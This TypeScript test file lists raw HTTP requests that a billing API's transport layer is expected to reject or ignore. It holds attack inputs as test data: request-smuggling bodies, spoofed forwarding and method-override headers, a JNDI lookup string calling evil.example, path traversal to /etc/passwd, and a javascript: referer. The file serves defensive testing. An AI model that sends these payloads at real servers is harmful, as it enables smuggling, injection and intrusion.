import { bearer, CANARY, get, head, JSON_TYPE, type Place, type Row, USAGE, usage } from './row.ts';

/** A request that must not run: it hides behind another. */
const hidden = ({ key }: Place): string => head('GET /api/v1/billing/ledger/head', bearer(key));
const event =
  '{"idempotency_key":"smuggled","metric_name":"api_calls","quantity":"1","timestamp":"2026-03-10T12:00:00Z"}';
const post = (place: Place, ...lines: string[]): string =>
  head(`POST ${USAGE}`, bearer(place.key), JSON_TYPE, ...lines);
const chunk = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n`;
const CHUNKED = 'Transfer-Encoding: chunked';

/** Two readers of one stream must see the same requests in it. */
const SMUGGLING: readonly Row[] = [
  ...['chunkedx', 'xchunked', '"chunked"', 'identity', 'gzip, chunked', 'chunked;x=y', 'cow'].map(
    (coding): Row => ({
      says: `a transfer in ${coding}, with a request behind`,
      sends: (place) => [post(place, `Transfer-Encoding: ${coding}`), chunk(event), hidden(place)],
      status: 415,
      code: 'unsupported_content_encoding',
      answers: 1,
    }),
  ),
  ...(
    [
      ['both lengths', ['Content-Length: 5', CHUNKED], '0\r\n\r\n'],
      ['both lengths, the other way round', [CHUNKED, 'Content-Length: 5'], '0\r\n\r\n'],
      ['a space before the colon', ['Transfer-Encoding : chunked'], chunk(event)],
      ['a tab before the colon', ['Transfer-Encoding\t: chunked'], chunk(event)],
      ['a field that is folded', ['Transfer-Encoding:', ' chunked'], chunk(event)],
      ['a vertical tab before the coding', ['Transfer-Encoding: \x0bchunked'], chunk(event)],
      ['a NUL in the coding', ['Transfer-Encoding: chun\0ked'], chunk(event)],
      ['a bare CR in a field', ['X-One: a\rTransfer-Encoding: chunked'], chunk(event)],
      ['two lengths that differ', ['Content-Length: 4', 'Content-Length: 40'], event],
      ['two lengths that agree', ['Content-Length: 4', 'Content-Length: 4'], event],
      ['a list of lengths', ['Content-Length: 4, 4'], event],
      ['a length with a sign', ['Content-Length: +4'], event],
      ['a negative length', ['Content-Length: -1'], event],
      ['a length in hexadecimal', ['Content-Length: 0x5'], event],
      ['a length with an underscore', ['Content-Length: 1_0'], event],
      ['a length with a point', ['Content-Length: 5.0'], event],
      ['an empty length', ['Content-Length: '], event],
      ['a length in Arabic digits', ['Content-Length: \xd9\xa5'], event],
      ['a length of 2^64 + 5', ['Content-Length: 18446744073709551621'], event],
      ['two lengths, one under another case', ['Content-Length: 4', 'CONTENT-LENGTH: 5'], event],
    ] as const
  ).map(([says, lines, body]) => ({
    says: `${says}, with a request behind`,
    sends: (place: Place) => [post(place, ...lines), body, hidden(place)],
    status: 400,
    answers: 1,
  })),
  ...(
    [
      ['a size with a prefix', '0x5\r\nabcde\r\n0\r\n\r\n'],
      ['a size with a sign', '+5\r\nabcde\r\n0\r\n\r\n'],
      ['a negative size', '-5\r\nabcde\r\n0\r\n\r\n'],
      ['a size beyond 64 bits', 'fffffffffffffffff\r\nabcde\r\n0\r\n\r\n'],
      ['no size', '\r\nabcde\r\n0\r\n\r\n'],
      ['a size that lies', '3\r\nabcde\r\n0\r\n\r\n'],
      ['a chunk that ends with a line feed alone', '5\nabcde\n0\n\n'],
      ['letters where the size stands', 'zz\r\nabcde\r\n0\r\n\r\n'],
      ['a NUL in the size', '5\0\r\nabcde\r\n0\r\n\r\n'],
    ] as const
  ).map(([says, body]) => ({
    says: `chunks: ${says}`,
    sends: (place: Place) => [post(place, CHUNKED), body, hidden(place)],
    status: 400,
    answers: 1,
  })),
  {
    says: 'chunks: an extension of 20 KB',
    sends: (place) => [post(place, CHUNKED), `5;${'a'.repeat(20_000)}\r\nabcde\r\n0\r\n\r\n`],
    status: 413,
    answers: 1,
  },
  {
    says: 'chunks: a trailer of 20 KB',
    sends: (place) => [post(place, CHUNKED), `2\r\n{}\r\n0\r\nX-Trailer: ${'a'.repeat(20_000)}\r\n\r\n`],
    status: 431,
    answers: 1,
  },
  {
    says: 'chunked, twice',
    sends: (place) => [post(place, CHUNKED, CHUNKED), chunk('{}'), '0\r\n\r\n'],
    status: 400,
    answers: 1,
  },
  {
    says: 'chunked over HTTP/1.0 with a request behind',
    sends: (place) => [post(place, CHUNKED).replace('HTTP/1.1', 'HTTP/1.0'), chunk('{}'), '0\r\n\r\n', hidden(place)],
    status: 400,
    answers: 1,
  },
];

/** What a trailer says is said by nobody: it comes after the request was judged. */
const TRAILERS: readonly Row[] = (
  [
    ['credentials', (place: Place) => bearer(place.key)],
    ['a media type', () => JSON_TYPE],
    ['a Host', () => 'Host: evil.example'],
    ['an idempotency key', () => 'Idempotency-Key: trailer'],
  ] as const
).map(([says, line]) => ({
  says: `${says} in the trailer`,
  sends: (place: Place) => [
    head(`POST ${USAGE}`, CHUNKED, JSON_TYPE, `Trailer: ${line(place).split(':')[0]}`),
    `${chunk('{}')}0\r\n${line(place)}\r\n\r\n`,
  ],
  status: 401,
  code: 'missing_credentials' as const,
}));

const FIELDS: readonly Row[] = [
  ...(
    [
      ['two Host fields', 'Host: evil.example'],
      ['a second Authorization', 'Authorization: Bearer x'],
      ['a second Authorization under another case', 'AUTHORIZATION: Basic eDp5'],
      ['an empty second Authorization', 'authorization:'],
      ['a second Content-Type', 'content-type: application/json'],
    ] as const
  ).map(([says, line]) => ({
    says,
    sends: (place: Place) => [post(place, 'Content-Length: 2', line), '{}'],
    status: 400,
    code: 'duplicate_header' as const,
  })),
  {
    says: 'two idempotency keys',
    sends: (place) => [post(place, 'Content-Length: 2', 'Idempotency-Key: a', 'idempotency-key: a'), '{}'],
    status: 400,
    code: 'duplicate_header',
  },
  {
    says: '101 fields',
    sends: get('/healthz', ...Array.from({ length: 99 }, (_, i) => `X-${i}: 1`)),
    status: 400,
    code: 'too_many_items',
  },
  {
    says: '2,000 fields',
    sends: get('/healthz', ...Array.from({ length: 2000 }, (_, i) => `X-${i}: 1`)),
    status: 431,
    answers: 1,
  },
  { says: 'fields of 20 KB', sends: get('/healthz', `Cookie: ${'a'.repeat(20_000)}`), status: 431, answers: 1 },
  ...(
    [
      ['a space in a field’s name', 'X One: a'],
      ['a field without a name', ': a'],
      ['a line that is no field', 'nonsense'],
      ['a NUL in a field', 'X-One: a\0b'],
      ['a bell in a field’s name', 'X-\x07: a'],
      ['letters beyond ASCII in a field’s name', 'X-\xe9: a'],
      ['a bare CR', 'X-One: a\rb'],
    ] as const
  ).map(([says, line]) => ({ says, sends: get('/healthz', line), status: 400, answers: 1 })),
  { says: 'an address of 20 KB', sends: get(`/${'a'.repeat(20_000)}`), status: 431, answers: 1 },
  { says: 'a query of 20 KB', sends: get(`/healthz?${'a'.repeat(20_000)}`), status: 431, answers: 1 },
  { says: 'bare line feeds', sends: () => ['GET /healthz HTTP/1.1\nHost: a\n\n'], status: 400, answers: 1 },
  { says: 'no Host', sends: () => ['GET /healthz HTTP/1.1\r\n\r\n'], status: 400, answers: 1 },
  { says: 'XML or nothing', sends: get('/healthz', 'Accept: application/xml'), status: 406, code: 'not_acceptable' },
  {
    says: 'nothing at all, or nothing',
    sends: get('/healthz', 'Accept: */*;q=0'),
    status: 406,
    code: 'not_acceptable',
  },
  {
    says: 'a weight that is none',
    sends: get('/healthz', 'Accept: application/json;q=1e9'),
    status: 406,
    code: 'not_acceptable',
  },
  {
    says: '2,000 media ranges',
    sends: get('/healthz', `Accept: ${'a/b;q=0.1,'.repeat(1500)}`),
    status: 406,
    code: 'not_acceptable',
  },
  {
    says: 'an expectation that nobody knows',
    sends: get('/healthz', 'Expect: 200-ok', 'Connection: close'),
    status: 417,
    answers: 1,
  },
  {
    says: 'a body announced that is too large, to be continued',
    sends: (place) => [post(place, 'Expect: 100-continue', 'Content-Length: 1048577')],
    status: 413,
    code: 'body_too_large',
    answers: 1,
  },
];

/** Fields by which some software lets a sender choose what it did not ask for: here they say nothing. */
const IGNORED: readonly Row[] = (
  [
    'X-HTTP-Method-Override: DELETE',
    'X-HTTP-Method: PUT',
    'X-Original-URL: /_functions/seal-ledger/run',
    'X-Rewrite-URL: /api/v1/billing/invoices',
    'X-Forwarded-For: 127.0.0.1, 10.0.0.1, 169.254.169.254',
    'X-Forwarded-Host: evil.example',
    'X-Forwarded-Proto: file',
    'X-Forwarded-Prefix: /admin',
    'Forwarded: for=127.0.0.1;host=evil.example',
    'X-Real-IP: 127.0.0.1',
    'X-Tenant-Id: umbrella',
    'X-Organization-Id: umbrella',
    'X-Goog-Authenticated-User-Email: accounts.google.com:root@example.com',
    'X-Serverless-Authorization: Bearer x',
    'Connection: Authorization',
    'Connection: upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__',
    'Connection: upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13',
    'Range: bytes=0-0,1-1,2-2',
    'If-None-Match: *',
    'If-Modified-Since: Thu, 01 Jan 2099 00:00:00 GMT',
    'Cookie: tenant=umbrella; __Host-session=1',
    `User-Agent: ${CANARY}\${jndi:ldap://evil.example/x}`,
    `Referer: javascript:alert(1)//${CANARY}`,
    'traceparent: 00-00000000000000000000000000000000-0000000000000000-zz',
    `baggage: ${'k=v,'.repeat(2000)}`,
    'Accept-Language: ../../../etc/passwd',
    'Proxy: http://evil.example/',
  ] as const
).map((line) => ({
  says: `“${line.slice(0, 60).replaceAll(/[^\x20-\x7e]+/g, ' ')}” says nothing`,
  sends: get('/api/v1/billing/organization', line),
  status: 200,
}));

/** What is sent by POST is a POST: nothing is deleted, and the event is the one that is there. */
const OVERRIDDEN: readonly Row[] = ['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override'].flatMap((name) =>
  ['DELETE', 'GET', 'PUT'].map(
    (method): Row => ({
      says: `“${name}: ${method}” on a POST says nothing`,
      sends: (place) => usage(JSON.stringify(place.event), JSON_TYPE, `${name}: ${method}`)(place),
      status: 202,
      event: 'duplicate',
    }),
  ),
);

const VERSIONS: readonly Row[] = [
  { says: 'HTTP/0.9', sends: () => ['GET /healthz\r\n\r\n'], status: 400, code: 'invalid_target', answers: 1 },
  ...(
    [
      ['HTTP/3.7', 'GET /healthz HTTP/3.7\r\nHost: a\r\n\r\n'],
      ['http in small letters', 'GET /healthz http/1.1\r\nHost: a\r\n\r\n'],
      ['no target', 'GET HTTP/1.1\r\nHost: a\r\n\r\n'],
      ['a method in small letters', 'get /healthz HTTP/1.1\r\nHost: a\r\n\r\n'],
      ['a method that nobody knows', 'BREW /healthz HTTP/1.1\r\nHost: a\r\n\r\n'],
      ['a method of 20 KB', `${'A'.repeat(20_000)} / HTTP/1.1\r\nHost: a\r\n\r\n`],
      ['the preface of HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
      ['a TLS handshake', '\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03'],
      ['the greeting of SSH', 'SSH-2.0-OpenSSH_9.6\r\n'],
      ['a SMTP greeting', 'EHLO evil.example\r\n'],
      ['raw bytes', '\x00\xff\x00\xff\r\n\r\n'],
      ['a target in raw UTF-8', 'GET /h\xc3\xa9 HTTP/1.1\r\nHost: a\r\n\r\n'],
    ] as const
  ).map(([says, bytes]) => ({ says, sends: () => [bytes], status: 400, answers: 1 })),
  { says: 'a target of 20 KB', sends: get(`/${'a'.repeat(20_000)}`), status: 431, answers: 1 },
  { says: 'CONNECT', sends: () => ['CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n'], status: 0 },
  {
    says: 'TRACE',
    sends: () => [head('TRACE /healthz', 'X-Secret: swordfish')],
    status: 405,
    code: 'method_not_allowed',
  },
  {
    says: 'OPTIONS',
    sends: () => [head('OPTIONS /healthz', 'Origin: https://evil.example', 'Access-Control-Request-Method: PUT')],
    status: 405,
    code: 'method_not_allowed',
  },
  { says: 'OPTIONS of everything', sends: () => [head('OPTIONS *')], status: 400, code: 'invalid_target' },
  { says: 'PROPFIND', sends: () => [head('PROPFIND /healthz')], status: 405, code: 'method_not_allowed' },
  { says: 'QUERY', sends: () => [head('QUERY /healthz')], status: 405, code: 'method_not_allowed' },
  { says: 'PUT of usage', sends: usagePut, status: 405, code: 'method_not_allowed' },
  { says: 'HEAD', sends: () => [head('HEAD /healthz', 'Connection: close')], status: 200, answers: 1 },
  {
    says: 'HEAD without a key',
    sends: () => [head('HEAD /api/v1/billing/organization', 'Connection: close')],
    status: 401,
    answers: 1,
  },
  {
    says: 'GET with a body that holds a request',
    sends: (place) => [
      head('GET /healthz', `Content-Length: ${hidden(place).length}`, 'Connection: close'),
      hidden(place),
    ],
    status: 200,
    answers: 1,
  },
];
function usagePut(place: Place): readonly string[] {
  return [head(`PUT ${USAGE}`, bearer(place.key), JSON_TYPE, 'Content-Length: 2'), '{}'];
}

export const TRANSPORT: readonly Row[] = [
  ...SMUGGLING,
  ...TRAILERS,
  ...FIELDS,
  ...IGNORED,
  ...OVERRIDDEN,
  ...VERSIONS,
  {
    says: 'credentials in the address',
    sends: (place) => [head(`GET /api/v1/billing/invoices?access_token=${place.key}`)],
    status: 401,
    code: 'missing_credentials',
  },
  {
    says: 'an event behind a 204 kB field that never ends',
    sends: usage('{}', JSON_TYPE, `X-Long: ${'b'.repeat(200_000)}`),
    status: 431,
    answers: 1,
  },
];
